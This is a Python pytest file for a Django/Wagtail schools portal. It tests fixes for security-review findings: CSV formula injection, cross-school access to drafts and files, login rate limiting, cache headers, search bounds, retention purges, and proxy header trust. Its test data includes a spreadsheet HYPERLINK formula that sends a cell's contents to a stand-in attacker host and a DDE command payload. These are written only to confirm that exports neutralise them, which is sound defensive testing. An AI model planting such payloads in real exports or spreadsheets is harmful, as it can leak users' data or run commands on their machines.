"""One test (or a few) per gap a security review found: formulas in CSV exports, other schools'
drafts and files, locking people out of sign-in, requesters' pages in caches, unbounded search
terms, free text kept past retention, submitters' email addresses in the workflow report, and a
trusted forwarded protocol with no proxy. The admin-wide walk is in test_admin_guard."""

import csv
import datetime
import io

import pytest
from django.core.files.base import ContentFile
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from wagtail.documents.models import Document
from wagtail.models import Page

from demo.files import simple_pdf
from directory.models import ReferralEnquiry
from placements.links import status_token
from portal.exports import spreadsheet_text
from publishing.roles import contributions_collection
from resources.models import ResourceFile
from search.models import SearchTermCount
from tests.directory import factories as directory_factories
from tests.home.test_site import _import_production_settings
from tests.placements import factories as placement_factories
from tests.publishing import factories as people
from tests.resources import factories as resource_factories
from tests.tasks import run_tasks

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'


def csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8"))))


def cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


# Formulas in CSV exports -----------------------------------------------------------------------


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1"])
def test_anything_that_could_start_a_formula_is_written_as_text(value):
    assert spreadsheet_text(value) == f"'{value}"


@pytest.mark.parametrize("value", ["Careers week", "", 3, None])
def test_plain_values_are_written_as_they_are(value):
    assert spreadsheet_text(value) == ("" if value is None else value)


def test_the_requests_export_writes_a_free_text_organisation_as_text(home, client):
    window = placement_factories.capacity(placement_factories.placement(placement_factories.host_team(home)))
    placement_factories.placement_request(window, school=None, organisation_name=FORMULA)
    client.force_login(people.editor())
    exported = cells(csv_rows(client.get(reverse("placement_requests:index"), {"export": "csv"})))
    assert f"'{FORMULA}" in exported and FORMULA not in exported


def test_the_search_terms_export_writes_a_typed_term_as_text(client):
    SearchTermCount.objects.create(day=timezone.localdate(), term="=cmd|' /c calc'!a0", searches=3)
    client.force_login(people.editor())
    exported = cells(csv_rows(client.get(reverse("search_terms_report"), {"export": "csv"})))
    assert "'=cmd|' /c calc'!a0" in exported


def test_the_freshness_export_writes_a_title_as_text(home, client):
    resource_factories.resource(
        resource_factories.resource_index(home),
        title="-2+3 careers quiz",
        last_reviewed=datetime.date(2000, 1, 1),
    )
    client.force_login(people.editor())
    exported = cells(csv_rows(client.get(reverse("publishing_freshness"), {"export": "csv"})))
    assert "'-2+3 careers quiz" in exported


def test_wagtails_own_reports_write_titles_as_text(home, client):
    page = resource_factories.resource(resource_factories.resource_index(home), title="=2+2 ideas")
    page.save_revision(user=people.editor()).publish()
    client.force_login(people.user("root", is_superuser=True))
    exported = cells(csv_rows(client.get(reverse("wagtailadmin_reports:site_history"), {"export": "csv"})))
    assert "'=2+2 ideas" in exported and "=2+2 ideas" not in exported


# Other schools' drafts and files --------------------------------------------------------------


@pytest.fixture
def other_schools_draft(home):
    """School B's draft with the file it uses, and school A's contributor."""
    teacher = people.contributor("bittern", school=resource_factories.school("Bittern Academy", "990202"))
    draft = resource_factories.resource(
        resource_factories.resource_index(home),
        title="Bittern plan",
        kind="case-study",
        live=False,
        school=resource_factories.school("Bittern Academy", "990202"),
    )
    draft.owner = teacher
    upload = Document.objects.create(
        title="Bittern risk assessment",
        file=ContentFile(simple_pdf("Plan", ["Line"]), name="bittern-plan.pdf"),
        collection=contributions_collection(),
        uploaded_by_user=teacher,
    )
    draft.files.add(ResourceFile(document=upload))
    draft.save()
    kingfisher = people.contributor("kingfisher", school=resource_factories.school("Kingfisher", "990101"))
    return draft, upload, kingfisher


def test_a_file_used_only_by_a_draft_cannot_be_downloaded_until_the_page_is_live(other_schools_draft, client):
    draft, upload, _ = other_schools_draft
    assert client.get(upload.url).status_code == 404
    draft.save_revision().publish()
    run_tasks(
        path_suffix=".update_reference_index_task"
    )  # the worker brings Wagtail's reference index up to date after a publish
    assert client.get(upload.url).status_code == 200


def test_a_contributors_file_added_in_a_new_draft_of_a_live_page_waits_for_publishing(home, client):
    teacher = people.contributor("kestrel")
    page = resource_factories.resource(resource_factories.resource_index(home), title="Live resource")
    added = Document.objects.create(
        title="Next year's plan",
        file=ContentFile(simple_pdf("Plan", ["Line"]), name="next-year.pdf"),
        collection=contributions_collection(),
        uploaded_by_user=teacher,
    )
    page.files.add(ResourceFile(document=added))
    revision = page.save_revision()
    assert client.get(added.url).status_code == 404
    revision.publish()
    run_tasks(
        path_suffix=".update_reference_index_task"
    )  # the worker brings Wagtail's reference index up to date after a publish
    assert client.get(added.url).status_code == 200


def test_the_draft_owner_and_editors_can_still_download_it(other_schools_draft):
    draft, upload, _ = other_schools_draft
    assert people.signed_in(draft.owner).get(upload.url).status_code == 200
    assert people.signed_in(people.editor()).get(upload.url).status_code == 200


@pytest.mark.parametrize("role", ["contributor", "officer", "reporting"])
def test_other_schools_uploads_are_not_listed_by_the_admin_api(other_schools_draft, home, role):
    _, upload, kingfisher = other_schools_draft
    person = {
        "contributor": kingfisher,
        "officer": lambda: people.team_member(placement_factories.host_team(home).team),
        "reporting": people.reporter,
    }[role]
    client = people.signed_in(person if role == "contributor" else person())
    listing = client.get("/admin/api/main/documents/", {"search": "Bittern"})
    assert listing.status_code == 200 and "Bittern" not in listing.content.decode()
    assert client.get(f"/admin/api/main/documents/{upload.pk}/").status_code == 404


def test_other_schools_drafts_do_not_show_by_id(other_schools_draft):
    draft, upload, kingfisher = other_schools_draft
    client = people.signed_in(kingfisher)
    for url in (
        f"/admin/pages/{draft.pk}/",
        f"/admin/choose-page/{draft.pk}/",
        *(
            f"/admin/bulk/wagtailcore/page/{action}/?id={draft.pk}"
            for action in ("delete", "publish", "move")
        ),
        f"/admin/bulk/wagtaildocs/document/delete/?id={upload.pk}",
    ):
        response = client.get(url)
        assert "Bittern" not in response.content.decode(), url
    assert "Bittern plan" not in client.get("/admin/reports/page-types-usage/").content.decode()
    assert (
        "Bittern plan"
        in people.signed_in(people.editor()).get("/admin/pages/" + str(draft.pk) + "/").content.decode()
    )


# Locking people out of sign-in ----------------------------------------------------------------


def sign_in(client, username: str, password: str, address: str):
    return client.post("/admin/login/", {"username": username, "password": password}, REMOTE_ADDR=address)


@pytest.mark.usefixtures("one_rate_window")
def test_wrong_passwords_from_elsewhere_do_not_lock_the_real_user_out(client, settings):
    settings.RATELIMIT_ENABLE = True
    people.user("officer")
    for attempt in range(12):
        variant = ["officer", "OFFICER", " Officer ", "off icer"][attempt % 4]
        sign_in(client, variant, "wrong-guess", f"198.51.100.{attempt}")
    for _ in range(12):
        sign_in(client, "Officer", "wrong-guess", "203.0.113.9")
    assert sign_in(client, "officer", people.PASSWORD, "192.0.2.1").status_code == 302


@pytest.mark.usefixtures("one_rate_window")
def test_one_address_guessing_one_account_is_stopped_whatever_the_case_and_spaces(client, settings):
    settings.RATELIMIT_ENABLE = True
    people.user("officer")
    for attempt in range(10):
        assert (
            sign_in(client, ["officer", " OFFICER"][attempt % 2], "guess", "203.0.113.7").status_code == 200
        )
    assert sign_in(client, "Officer ", people.PASSWORD, "203.0.113.7").status_code == 429


@pytest.mark.usefixtures("one_rate_window")
def test_successful_sign_ins_are_not_counted(settings):
    settings.RATELIMIT_ENABLE = True
    people.user("officer")
    for _ in range(12):
        assert sign_in(Client(), "officer", people.PASSWORD, "203.0.113.8").status_code == 302


# Requesters' own pages in caches --------------------------------------------------------------


def test_the_requesters_pages_are_private_and_not_indexed(home, client):
    window = placement_factories.capacity(placement_factories.placement(placement_factories.host_team(home)))
    placement_request = placement_factories.placement_request(window)
    index_url = placement_factories.placement_index(home).url
    status = f"{index_url}requests/{status_token(placement_request)}/"
    client.post(status)  # cancelled: its page has no form any more
    for url in (f"{status}sent/", status):
        response = client.get(url)
        assert response.status_code == 200
        assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
        assert "public" not in response["Cache-Control"]
        assert response["X-Robots-Tag"] == "noindex, nofollow"
        assert 'name="robots" content="noindex' in response.content.decode()
        assert client.get(url).get("X-Cache") != "hit"


# Search: rate limited, and the terms table bounded ---------------------------------------------


@pytest.mark.usefixtures("one_rate_window")
@pytest.mark.parametrize("url", ["/search/", "/api/search/"])
def test_search_is_rate_limited_per_address(client, settings, url):
    settings.RATELIMIT_ENABLE = True
    settings.SEARCH_RATE_LIMIT = "5/m"
    statuses = [client.get(url, {"q": f"word{n}"}, REMOTE_ADDR="203.0.113.20").status_code for n in range(6)]
    assert statuses == [200] * 5 + [429]
    assert client.get(url, {"q": "other"}, REMOTE_ADDR="203.0.113.21").status_code == 200
    if url.startswith("/api/"):
        blocked = client.get(url, {"q": "again"}, REMOTE_ADDR="203.0.113.20")
        assert blocked.json()["messages"]


def test_new_search_terms_are_capped_per_day_and_known_ones_still_count(settings):
    from search.insight import record_search

    settings.SEARCH_NEW_TERMS_PER_DAY = 3
    for n in range(10):
        record_search(f"made-up term {n}", total=0)
    record_search("made-up term 0", total=2)
    today = SearchTermCount.objects.filter(day=timezone.localdate())
    assert today.count() == 3
    assert today.get(term="made-up term 0").searches == 2


# Free text kept past retention ----------------------------------------------------------------


def test_purging_enquiries_removes_the_free_text_school_and_keeps_the_schools_list_reference(home, settings):
    settings.DIRECTORY_ENQUIRY_RETENTION_MONTHS = 12
    service = directory_factories.service(directory_factories.support_index(home))
    old = timezone.now() - datetime.timedelta(days=400)
    typed = directory_factories.enquiry(
        service, created_at=old, school_name="The Smith family (home education)"
    )
    listed = directory_factories.enquiry(service, created_at=old, school_name="")
    ReferralEnquiry.objects.filter(pk=listed.pk).update(school=placement_factories.school())
    call_command("purge_referral_enquiries", stdout=io.StringIO())
    typed.refresh_from_db()
    listed.refresh_from_db()
    assert typed.school_name == "" and typed.contact_details_removed_at is not None
    assert listed.school == placement_factories.school()


# Submitters' email addresses in the workflow report --------------------------------------------


def test_the_workflow_report_offers_only_requesters_of_pages_the_user_may_edit(home):
    index = resource_factories.resource_index(home)
    other = people.contributor("other.teacher@bittern.example.org")
    draft = resource_factories.resource(index, live=False)
    Page.objects.filter(pk=draft.pk).update(owner=other)
    draft.refresh_from_db()
    draft.get_workflow().start(draft, other)
    officer = people.team_member(placement_factories.host_team(home).team)
    kingfisher = people.contributor("kingfisher")
    for person in (officer, kingfisher):
        html = people.signed_in(person).get("/admin/reports/workflow/").content.decode()
        assert "other.teacher@bittern.example.org" not in html
    editor_html = people.signed_in(people.editor()).get("/admin/reports/workflow/").content.decode()
    assert "other.teacher@bittern.example.org" in editor_html


# A forwarded protocol trusted only behind a proxy ----------------------------------------------


@pytest.mark.parametrize(
    ("proxies", "trusted"), [(None, "None"), ("0", "None"), ("1", "('HTTP_X_FORWARDED_PROTO', 'https')")]
)
def test_the_forwarded_protocol_is_trusted_only_behind_a_proxy(proxies, trusted):
    env = {"SECRET_KEY": "x" * 60} | ({"TRUSTED_PROXIES": proxies} if proxies is not None else {})
    script = "import portal.settings.production as s; print(getattr(s, 'SECURE_PROXY_SSL_HEADER', None))"
    result = _import_production_settings("-c", script, **env)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == trusted
